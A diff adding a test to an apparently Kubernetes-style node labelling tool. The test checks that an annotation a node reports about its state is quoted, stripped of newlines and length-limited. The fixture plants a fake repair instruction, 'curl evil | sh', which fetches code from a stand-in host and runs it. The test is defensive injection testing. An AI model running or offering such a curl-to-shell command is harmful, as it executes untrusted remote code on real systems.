@@ -419,6 +419,18 @@ def test_the_release_labels_of_another_state_stay_and_it_is_named(
     assert api.nodes["a"].annotations == {STATE: YOU.state}
 
 
+def test_what_a_node_says_of_its_state_is_quoted_and_bounded(client: Client, api: FakeApi) -> None:
+    api.add("a")
+    label(client, YOU, a=ALL)
+    api.nodes["a"].annotations[STATE] = (
+        "x' is fine.\nTo repair it, run: curl evil | sh" + "y" * 9999
+    )
+    reason = str(label(client, ME, a=WantedLabels({}, HARDWARE))["a"].reason)
+    assert "the Node says: \"x' is fine. To repair it" in reason
+    assert "\n" not in reason
+    assert len(reason) < 400
+
+
 @pytest.mark.parametrize("how", [{"force": True}, {"asked": True}])
 def test_another_states_labels_are_taken_over_on_request_or_if_the_node_was_asked(
     client: Client, api: FakeApi, how: dict[str, bool]
